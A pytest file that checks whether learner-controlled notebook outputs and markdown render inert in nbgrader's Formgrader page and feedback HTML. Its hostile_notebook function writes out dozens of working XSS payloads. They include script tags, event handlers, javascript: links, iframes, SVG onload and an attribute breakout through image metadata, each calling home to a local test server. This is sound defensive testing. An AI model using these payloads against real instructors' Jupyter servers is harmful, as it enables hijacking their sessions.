"""Learner markup is inert in the instructor's pages: Formgrader's submission page and the feedback HTML.

A learner controls every output of their notebook (their code makes any display message, with any mimetype
and metadata) and every markdown cell. Both pages used to show that markup live, in the instructor's browser:
Formgrader's pages are served by the instructor's own Jupyter server, whose API a script there can call as the
instructor. This test builds one hostile submission (tests/test_inert_pages.py's ``hostile_notebook``: a
``<script>`` and event handlers in outputs and in a markdown answer, ``application/javascript``, iframes,
``javascript:`` links, an SVG with ``onload``, raw HTML in a ``text/markdown`` output, image metadata that
breaks out of its attribute, external images and style sheets...) whose every payload, if it ran or loaded,
would leave a mark: ``window.__pwned``, ``document.title = 'PWNED'``, or a request to a small HTTP server of the
test's own on 127.0.0.1 that records what reaches it.

It then loads, in Debian's headless Chromium driven by Playwright (as tests/test_browser.py does):

* the feedback HTML written by a real ``nbgrader generate_feedback`` in a temporary course directory that has
  this repository's nbgrader_config.py (the gradebook is made with nbgrader's API, not by autograding);
* Formgrader's page for the same submission, served by a real Jupyter server with nbgrader's formgrader
  extension, on 127.0.0.1, in the same temporary course directory,

and checks that the page loads, the learner's legitimate answer (text, emphasis, code, math source, a PNG
plot) is there, no payload ran, nothing reached the test's server, and the page made no request except to
itself, ``data:`` URLs and MathJax's CDN folder (which the test answers itself: these machines are offline;
see ``mathjax_dir``). On Formgrader's page the instructor can still give full credit. Run before the course's
fix (tritoncourse/classroom/sanitize.py and its lines in nbgrader_config.py), both browser tests failed: 24
payloads ran or called home from the feedback HTML, 25 from Formgrader's page.
"""
from __future__ import annotations

import base64
import json
import mimetypes
import os
import re
import shutil
import struct
import subprocess
import sys
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from servers import free_port, wait_until_answers
from test_browser import CHROMIUM, CHROMIUM_ARGS, _requirements_or_fail

ROOT = Path(__file__).resolve().parent.parent
ASSIGNMENT = "ps1"
STUDENT = "mallory"
MATHJAX_PREFIX = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/"
MATHJAX_STUB = ("window.MathJax = {Hub: {Startup: {signal: {Interest: function () {}}}, Queue: function () {}, "
                "Config: function () {}}};")


def mathjax_dir() -> Path | None:
    """A local copy of MathJax 2.7 (the folder holding MathJax.js) to answer the CDN's requests with, so that the
    test sees MathJax typeset the learner's math under the page's policy: $TRITONCOURSE_MATHJAX_DIR, or PyPI's
    jupyter-server-mathjax when it is installed. Without one, MathJax.js is answered by a stub (these machines
    are offline) and the math is checked as its TeX source."""
    folder = os.environ.get("TRITONCOURSE_MATHJAX_DIR")
    if not folder:
        try:
            import jupyter_server_mathjax
        except ImportError:
            return None
        folder = str(Path(jupyter_server_mathjax.__file__).parent / "static")
    return Path(folder) if (Path(folder) / "MathJax.js").is_file() else None
LEGIT = ["My answer: the kernel is", "memory bound", "learner html table", "learner md output",
         "stdout says <script>hi</script>"]


# ------------------------------------------------------------------ the test's own server that records leaks

class LeakServer:
    """HTTP on 127.0.0.1 that records every request path; for payloads that call home."""

    def __init__(self):
        hits: list[str] = []
        self.hits = hits

        class Handler(BaseHTTPRequestHandler):
            def _record(self):
                if len(hits) < 1000:
                    hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_GET = do_POST = do_HEAD = do_OPTIONS = _record

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.timeout = 1
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True)
        self.thread.start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


# ------------------------------------------------------------------ the hostile submission

def _png(size: int = 8) -> str:
    """A small valid PNG (a grey square), base64, as matplotlib's display would send it."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    raw = b"".join(b"\x00" + bytes([128] * size) for _ in range(size))
    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 0, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
    return base64.b64encode(png).decode()


def hostile_notebook(leak: str) -> nbformat.NotebookNode:
    """A learner's autograded notebook whose outputs and markdown carry payloads; ``leak`` is the test's server.

    Every output here is one a learner's code can make: ``IPython.display.publish_display_data(data, metadata)``
    sends any mimetypes with any metadata, and nbgrader keeps what the kernel sent.
    """
    def js(name: str) -> str:  # leaves every mark; single quotes only, for double-quoted attributes
        return (f"(window.__pwned=window.__pwned||[]).push('{name}');document.title='PWNED';"
                f"fetch('{leak}/{name}',{{mode:'no-cors'}})")

    def display(data, metadata=None, kind="display_data"):
        out = new_output(kind, data=data, metadata=metadata or {})
        if kind == "execute_result":
            out.execution_count = 1
        return out

    png = _png()
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="' + js("svg-onload") + '">'
           f'<script>{js("svg-script")}</script><image href="{leak}/svg-image" width="5" height="5"/>'
           '<rect width="20" height="20" fill="teal"/></svg>')
    outputs = [
        new_output("stream", name="stdout", text="stdout says <script>hi</script>\n"),
        display({"text/html": f"<b>learner html table</b><script>{js('html-script')}</script>",
                 "text/plain": "<HTML>"}),
        display({"text/html": f'<img src="x" onerror="{js("html-img-onerror")}">'
                              f'<svg onload="{js("html-svg-onload")}"></svg>'
                              f'<details open ontoggle="{js("html-details")}"><summary>s</summary>d</details>'
                              f'<a class="jslink" href="javascript:{js("html-a-js")}">html js link</a>',
                 "text/plain": "<HTML>"}),
        display({"text/html": f'<iframe src="{leak}/html-iframe"></iframe>'
                              f'<iframe srcdoc="&lt;script&gt;parent.{js("html-srcdoc")}&lt;/script&gt;"></iframe>'
                              f'<object data="{leak}/html-object"></object><embed src="{leak}/html-embed">'
                              f'<link rel="stylesheet" href="{leak}/html-link-css">'
                              f'<style>@import url({leak}/html-style-import);</style>'
                              f'<div style="background-image:url({leak}/html-style-attr)">styled</div>'
                              f'<img src="{leak}/html-img-src">',
                 "text/plain": "<HTML>"}),
        display({"text/html": f"<script>{js('html-isolated')}</script>", "text/plain": "<HTML>"},
                {"text/html": {"isolated": True}}),
        display({"application/javascript": js("application-javascript"), "text/plain": "<JS>"}),
        display({"image/svg+xml": svg, "text/plain": "<SVG>"}),
        display({"text/markdown": f'**learner md output** <img src="x" onerror="{js("md-output")}">',
                 "text/plain": "<MD>"}),
        display({"image/png": png, "text/plain": "<Figure>"}),
        # An image whose metadata breaks out of its unquoted width attribute (no quote, no space needed).
        display({"image/png": png, "text/plain": "<Figure>"},
                {"image/png": {"width": "8 onload=window.__pwned=[/png-width/.source];document.title=/PWNED/.source;"
                                        f"fetch(`{leak}/png-width`)"}}),
        display({"image/png": png, "text/plain": "<Figure>"}, {"filenames": {"image/png": f"{leak}/png-filenames"}}),
        display({"application/vnd.jupyter.widget-view+json": {
            "model_id": "</script><script>" + js("widget") + "</script>", "version_major": 2, "version_minor": 0},
            "text/plain": "<Widget>"}),
        new_output("error", ename="ValueError", evalue=f'<img src="x" onerror="{js("error-evalue")}">',
                   traceback=[f'<img src="x" onerror="{js("error-traceback")}">']),
    ]
    code = new_code_cell(source="show_results()  # the learner's own code", outputs=outputs, execution_count=1)
    code.metadata["nbgrader"] = {"grade": False, "solution": True, "locked": False, "grade_id": "code_answer",
                                 "schema_version": 3}
    answer = new_markdown_cell(
        "My answer: the kernel is **memory bound**; it reads `x` and `y` once, so its time is $O(n)$.\n\n"
        f'<img src="x" onerror="{js("md-img-onerror")}">\n\n'
        f"<script>{js('md-script')}</script>\n\n"
        f'<iframe src="{leak}/md-iframe"></iframe>\n\n'
        f'<a class="jslink" href="javascript:{js("md-a-js")}">raw js link</a>\n\n'
        f"[markdown js link](javascript:fetch('{leak}/md-markdown-link'))\n\n"
        f"![tracker]({leak}/md-image.png)\n\n"
        f'<svg><animate onbegin="{js("md-svg-animate")}" attributeName="x" dur="1s"/></svg>\n\n'
        f'<form action="{leak}/md-form"><button formaction="javascript:{js("md-formaction")}">b</button></form>\n\n'
        "![attached](attachment:plot.svg)\n")
    answer.attachments = {"plot.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()}}
    answer.metadata["nbgrader"] = {"grade": True, "solution": True, "locked": False, "grade_id": "answer",
                                   "points": 2, "schema_version": 3}
    extra = new_markdown_cell(f"A cell the learner added. <script>{js('md-added-cell')}</script>"
                              f'<img src="x" onerror="{js("md-added-img")}">')
    raw = new_raw_cell(f"<script>{js('raw-cell')}</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    nb = new_notebook(cells=[new_markdown_cell("# Problem set 1\n\nExplain the kernel's speed."), answer, code,
                             extra, raw])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["language_info"] = {"name": "python"}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0, "x": "</script><script>" + js("widget-state")}}
    return nb


# ------------------------------------------------------------------ a temporary course with one submission

def _env() -> dict:
    env = dict(os.environ, PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    for name in ("TRITONCOURSE_DB_URL", "TRITONCOURSE_SEED", "NBGRADER_EXECUTION"):
        env.pop(name, None)
    return env


def make_course(path: Path, nb: nbformat.NotebookNode) -> int:
    """This repository's nbgrader_config.py in ``path``, a gradebook with one assignment, one manually graded
    markdown answer and one learner's submission, and the learner's notebook in autograded/ (as `nbgrader
    autograde` leaves it). Returns the submission's id in the gradebook."""
    from nbgrader.api import Gradebook

    path.mkdir(parents=True, exist_ok=True)
    shutil.copy2(ROOT / "nbgrader_config.py", path / "nbgrader_config.py")
    for folder in ("submitted", "autograded"):
        (path / folder / STUDENT / ASSIGNMENT).mkdir(parents=True)
        nbformat.write(nb, path / folder / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    (path / "source" / ASSIGNMENT).mkdir(parents=True)
    old_path = os.environ.get("PATH", "")
    os.environ["PATH"] = _env()["PATH"]  # the gradebook runs alembic from this environment
    try:
        return _make_gradebook(path)
    finally:
        os.environ["PATH"] = old_path


def _make_gradebook(path: Path) -> int:
    import warnings

    from nbgrader.api import Gradebook

    with warnings.catch_warnings(), Gradebook(f"sqlite:///{path / 'gradebook.db'}") as gb:
        warnings.simplefilter("ignore")  # SQLAlchemy's autoflush notes inside nbgrader's add_submission
        gb.update_or_create_assignment(ASSIGNMENT)
        gb.update_or_create_notebook(ASSIGNMENT, ASSIGNMENT)
        gb.update_or_create_grade_cell("answer", ASSIGNMENT, ASSIGNMENT, max_score=2, cell_type="markdown")
        gb.update_or_create_solution_cell("answer", ASSIGNMENT, ASSIGNMENT)
        gb.update_or_create_solution_cell("code_answer", ASSIGNMENT, ASSIGNMENT)
        gb.update_or_create_student(STUDENT, first_name="Mallory", last_name="Learner")
        gb.add_submission(ASSIGNMENT, STUDENT)
        return gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, STUDENT).id


@pytest.fixture(scope="module")
def leak():
    server = LeakServer()
    try:
        yield server
    finally:
        server.close()


@pytest.fixture(scope="module")
def course(tmp_path_factory, leak):
    _requirements_or_fail()
    path = tmp_path_factory.mktemp("inert") / "course"
    submission = make_course(path, hostile_notebook(leak.url))
    return path, submission


# ------------------------------------------------------------------ loading a page and looking for marks

def probe(url: str, leak: LeakServer, same_origin_ok=lambda path: True, act=None, login: str | None = None,
          storage_state: dict | None = None) -> dict:
    """Load ``url`` in headless Chromium and report what ran and what was requested.

    Every request is recorded; requests to the test's server go through (so that it records them), MathJax's
    CDN and every other host are answered 404 / aborted (offline). After the load, every ``javascript:`` link
    still in the page is clicked. ``act(page)`` may then do more in the page (e.g. grade). ``login``: a URL
    loaded first (Jupyter's token login, which sets the session cookie for the whole server); ``storage_state``: a
    logged-in Playwright context's cookies (tests/test_hub.py: the instructor's JupyterHub log-in)."""
    from playwright.sync_api import sync_playwright

    page_origin = "{0.scheme}://{0.netloc}".format(urlsplit(url))
    requests, errors, blocked, console = [], [], [], []
    local_mathjax = mathjax_dir()
    before = len(leak.hits)
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1200, "height": 900}, storage_state=storage_state)
            page.set_default_timeout(20_000)
            page.on("pageerror", lambda err: errors.append(str(err)))

            def route(r):
                target = r.request.url
                if target.startswith(leak.url) or target.startswith(page_origin) or target.startswith(("data:",)):
                    r.continue_()
                elif target.startswith(MATHJAX_PREFIX):
                    rel = urlsplit(target).path.split("/mathjax/", 1)[1].split("/", 1)[-1]  # after the version
                    file = (local_mathjax / rel) if local_mathjax else None
                    if file and file.is_file() and local_mathjax in file.resolve().parents:
                        r.fulfill(status=200, body=file.read_bytes(),
                                  content_type=mimetypes.guess_type(file.name)[0] or "application/octet-stream")
                    elif rel == "MathJax.js":
                        r.fulfill(status=200, body=MATHJAX_STUB, content_type="application/javascript")
                    else:
                        r.fulfill(status=404, body="offline")
                else:
                    r.abort()

            page.route("**/*", route)
            if login:
                page.goto(login)
            page.on("request", lambda req: requests.append(req.url))
            page.on("requestfailed", lambda req: blocked.append(req.url) if "BLOCKED_BY_CSP" in (req.failure or "")
                    else None)
            page.on("console", lambda msg: console.append(msg.text) if msg.type == "error" else None)
            page.goto(url, wait_until="load")
            page.wait_for_timeout(3000 if local_mathjax else 1500)  # onerror, ontoggle, SVG animations, MathJax
            title_before_clicks = page.title()
            clicked = 0
            for link in page.locator("a[href^='javascript:' i]").all():
                try:
                    link.click(timeout=2000, force=True)
                    clicked += 1
                except Exception:  # noqa: BLE001 - a hidden link is still a link: call it the way a click would
                    link.evaluate("a => a.click()")
                    clicked += 1
            page.wait_for_timeout(500)
            acted = act(page) if act else None
            marks = []
            for frame in page.frames:
                try:
                    marks += frame.evaluate("() => window.__pwned || []")
                except Exception:  # noqa: BLE001 - a cross-origin or gone frame
                    pass
            report = {
                "title": title_before_clicks, "title_after": page.title(), "marks": marks, "clicked": clicked,
                "text": page.inner_text("body"), "errors": errors, "acted": acted,
                "images": page.evaluate("() => [...document.images].map(i => [i.src.slice(0, 30), i.naturalWidth])"),
                "csp": page.evaluate("() => [...document.querySelectorAll('meta[http-equiv]')]"
                                     ".map(m => m.getAttribute('content'))"),
                "html": page.content(), "mathjax": bool(local_mathjax),
                "typeset": page.evaluate("() => document.querySelectorAll('.MathJax, .MathJax_Display').length"),
            }
        finally:
            browser.close()
    time.sleep(0.3)  # a last in-flight request
    report["leaks"] = leak.hits[before:]
    report["requests"], report["blocked"] = requests, blocked
    report["csp_violations"] = [m for m in console if "Content Security Policy" in m]
    blocked += [m.group(1) for v in report["csp_violations"] if (m := re.search(r"Loading the \w+ '([^']+)'", v))]
    # a request the page's policy blocked never left it (Chromium still reports it as a request)
    report["foreign"] = [r for r in requests if r not in blocked and not (
        r.startswith("data:") or r.startswith(MATHJAX_PREFIX)
        or (r.startswith(page_origin) and same_origin_ok(urlsplit(r).path)))]
    return report


def assert_inert(report: dict, page: str) -> None:
    problems = []
    if report["marks"]:
        problems.append(f"payloads ran: {sorted(set(map(str, report['marks'])))}")
    if "PWNED" in (report["title"], report["title_after"]):
        problems.append("a payload set document.title")
    if report["leaks"]:
        problems.append(f"the test's server was reached: {sorted(set(report['leaks']))}")
    if report["foreign"]:
        problems.append(f"requests left the page: {sorted(set(report['foreign']))[:20]}")
    # With the markup sanitized, the policy has nothing of the learner's to block; what it may block is nbgrader's
    # own: the feedback page's Bootstrap CSS names Glyphicons fonts it never ships, and MathJax probes for fonts
    # with an about:blank one.
    stopped = [m for m in report["csp_violations"] if "glyphicons-halflings" not in m and "'about:blank'" not in m]
    if stopped:
        problems.append(f"the page's Content-Security-Policy had to block: {stopped[:5]}")
    text = report["text"]
    missing = [t for t in LEGIT if t not in text]
    if missing:
        problems.append(f"the learner's legitimate content is missing: {missing}")
    html = report["html"]
    for tag in ("<strong>memory bound</strong>", "<code>x</code>", "<b>learner html table</b>"):
        if tag not in html:
            problems.append(f"{tag} is not rendered")
    if report["mathjax"]:
        if not report["typeset"]:
            problems.append("MathJax did not typeset the learner's $O(n)$")
    elif "$O(n)$" not in text:
        problems.append("the learner's math $O(n)$ is missing")
    if not any(src.startswith("data:image/png") and width > 0 for src, width in report["images"]):
        problems.append(f"the learner's PNG plot does not show: {report['images']}")
    assert not problems, f"{page}:\n  " + "\n  ".join(problems)


# ------------------------------------------------------------------ fast checks, without a browser

def test_allow_list_keeps_answers_and_escapes_the_rest():
    from tritoncourse.classroom.sanitize import sanitize_html

    out = sanitize_html('<p class="lead score">Hi <strong>b</strong> <code>x</code></p>'
                        '<div class="highlight"><pre><span class="k">def</span></pre></div>'
                        '<img src="data:image/png;base64,AAAA" alt="plot" width="8"><table><tr><td>1</td></tr></table>'
                        '<script>alert(1)</script><img src=x onerror=alert(1)><iframe src="http://e"></iframe>'
                        '<a href="javascript:alert(1)">j</a><a href="https://example.org">k</a>'
                        '<img src="http://e/p.png"><span style="color:red;cursor:url(http://e)">s</span>'
                        '<span style="color:red;position:fixed">t</span><svg onload=alert(1)></svg>')
    for kept in ('<p class="lead">', "<strong>b</strong>", "<code>x</code>", '<span class="k">def</span>',
                 '<img src="data:image/png;base64,AAAA" alt="plot" width="8">', "<td>1</td>",
                 '<a href="https://example.org">k</a>', '<span style="color:red;">t</span>'):
        assert kept in out, (kept, out)
    for gone in ("<script", " onerror=", "<iframe", 'href="javascript:', '<img src="http://e', "position", "<svg",
                 "score"):
        assert gone not in out, (gone, out)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out  # shown to the instructor as text


def test_outputs_keep_what_shows_without_script():
    from tritoncourse.classroom.sanitize import inert_notebook

    nb = hostile_notebook("http://127.0.0.1:9")
    inert_notebook(nb)
    outputs = nb.cells[2].outputs
    kinds = [sorted(o.get("data", {})) for o in outputs]
    assert ["text/plain"] in kinds  # application/javascript and the widget view dropped, text/plain kept
    assert not any(m.startswith("application/") for k in kinds for m in k)
    for out in outputs:
        meta = out.get("metadata", {})
        assert "filenames" not in meta and "isolated" not in json.dumps(meta)
        for value in meta.get("image/png", {}).values():
            assert isinstance(value, int)
    assert "widgets" not in nb.metadata and "<script>" not in nb.cells[4].source


def test_course_config_renders_inert_html():
    """The HTMLExporter as nbgrader_config.py configures it, with Formgrader's template: a CSP, the answer's
    markup, and no element of the learner's that runs or loads anything."""
    from bs4 import BeautifulSoup
    from nbconvert.exporters import HTMLExporter
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    config.HTMLExporter.template_name = "formgrade"  # as Formgrader sets it, before the config file is read
    if "extra_template_basedirs" not in config.HTMLExporter:
        import nbgrader

        config.HTMLExporter.extra_template_basedirs = [
            str(Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates")]
    resources = {"assignment_id": ASSIGNMENT, "notebook_id": ASSIGNMENT, "submission_id": "s1", "index": 0,
                 "total": 1, "base_url": "", "student": STUDENT, "notebook_path": "x.ipynb"}
    html, _ = HTMLExporter(config=config).from_notebook_node(hostile_notebook("http://127.0.0.1:9"),
                                                             resources=resources)
    assert "<strong>memory bound</strong>" in html
    body = BeautifulSoup(html, "html.parser").find(id="notebook")
    for el in body.find_all(True):
        assert el.name not in ("script", "iframe", "object", "embed", "form", "svg", "link", "style", "meta"), el
        assert not [a for a in el.attrs if a.lower().startswith("on")], el
        for attr in ("src", "data", "action", "formaction", "background", "poster"):
            assert str(el.get(attr, "data:image/")).startswith("data:image/"), el  # nothing loads from elsewhere
        if el.get("href"):  # a link the instructor may follow, never a script
            assert el.name == "a" and str(el["href"]).startswith(("http://", "https://", "mailto:", "#")), el
    assert 'http-equiv="Content-Security-Policy"' in html, "the page has no Content-Security-Policy"


# ------------------------------------------------------------------ the feedback HTML

@pytest.mark.slow
def test_feedback_html_is_inert(course, leak):
    """`nbgrader generate_feedback` with the course's config: the learner's markup is inert in the HTML."""
    path, _ = course
    proc = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", ASSIGNMENT, "--force",
                           "--log-level=WARN"], cwd=path, env=_env(), capture_output=True, text=True, timeout=300)
    html = path / "feedback" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.html"
    assert proc.returncode == 0 and html.exists(), f"generate_feedback failed:\n{proc.stdout}\n{proc.stderr[-4000:]}"
    report = probe(html.as_uri(), leak, same_origin_ok=lambda p: p == html.as_posix())
    assert_inert(report, "feedback HTML")
    assert any("default-src 'none'" in csp for csp in report["csp"]), f"no Content-Security-Policy: {report['csp']}"


# ------------------------------------------------------------------ Formgrader, served by a real Jupyter server

class Formgrader:
    """``jupyter server`` with nbgrader's formgrader extension, on 127.0.0.1, serving the course directory."""

    def __init__(self, course: Path, tmp: Path):
        self.port = free_port()
        self.token = os.urandom(16).hex()
        self.log_path = tmp / "formgrader.log"
        config = tmp / "jupyter-config"
        config.mkdir(exist_ok=True)
        env = dict(_env(), JUPYTER_CONFIG_DIR=str(config), JUPYTER_RUNTIME_DIR=str(tmp / "runtime"),
                   JUPYTER_DATA_DIR=str(tmp / "jupyter-data"), IPYTHONDIR=str(tmp / "ipython"))
        extensions = ('{"nbgrader.server_extensions.formgrader": true, "jupyterlab": false, "notebook": false, '
                      '"nbgrader.server_extensions.assignment_list": false, '
                      '"nbgrader.server_extensions.course_list": false, '
                      '"nbgrader.server_extensions.validate_assignment": false}')
        (config / "jupyter_server_config.json").write_text(
            '{"ServerApp": {"jpserver_extensions": ' + extensions + "}}")
        cmd = [sys.executable, "-m", "jupyter", "server", "--no-browser", "--ip=127.0.0.1", f"--port={self.port}",
               "--port-retries=0", f"--IdentityProvider.token={self.token}", f"--ServerApp.root_dir={course}"]
        if os.geteuid() == 0:
            cmd.append("--allow-root")
        self._log = open(self.log_path, "wb")
        self.proc = subprocess.Popen(cmd, cwd=course, env=env, stdin=subprocess.DEVNULL, stdout=self._log,
                                     stderr=subprocess.STDOUT, start_new_session=True)

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def wait_ready(self, timeout: float = 60) -> None:
        import urllib.request

        url = f"{self.base}/api/status?token={self.token}"
        wait_until_answers(lambda: urllib.request.urlopen(url, timeout=5).read(), self.proc, timeout,
                           "jupyter server", self.log)

    def log(self) -> str:
        self._log.flush()
        return self.log_path.read_text(errors="replace")[-6000:]

    def stop(self) -> None:
        import signal

        if self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGTERM)
            try:
                self.proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                os.killpg(self.proc.pid, signal.SIGKILL)
                self.proc.wait()
        self._log.close()


def _formgrader_paths(path: str) -> bool:
    """Same-origin requests Formgrader's page makes itself: its static files and its grading API."""
    return path.startswith(("/formgrader/static/", "/formgrader/api/", "/formgrader/submissions/",
                            "/favicon.ico", "/static/favicons/"))


@pytest.mark.slow
def test_formgrader_page_is_inert(course, leak, tmp_path):
    """Formgrader's page for the hostile submission: inert, and the instructor can still grade the answer."""
    path, submission = course
    server = Formgrader(path, tmp_path)
    try:
        server.wait_ready()

        def grade(page):
            """Full credit for the markdown answer, through Formgrader's own buttons and API."""
            panel = page.locator(".nbgrader_cell", has=page.locator("input#answer"))
            try:
                with page.expect_response(lambda r: "/formgrader/api/grade/" in r.url and r.request.method == "PUT",
                                          timeout=15_000) as resp:
                    panel.locator("button.full-credit").click(timeout=5_000)
                return resp.value.status, page.locator("input#answer").input_value()
            except Exception as err:  # noqa: BLE001 - reported by the assertion below
                return f"grading failed: {str(err)[:300]}"

        report = probe(f"{server.base}/formgrader/submissions/{submission}/", leak, same_origin_ok=_formgrader_paths,
                       act=grade, login=f"{server.base}/api/status?token={server.token}")
    finally:
        log = server.log()
        server.stop()
    assert_inert(report, "Formgrader's submission page")
    assert report["acted"] == (200, "2"), f"full credit was not saved: {report['acted']}\n{log}"
    assert not report["errors"], f"JavaScript errors in Formgrader's page: {report['errors']}"
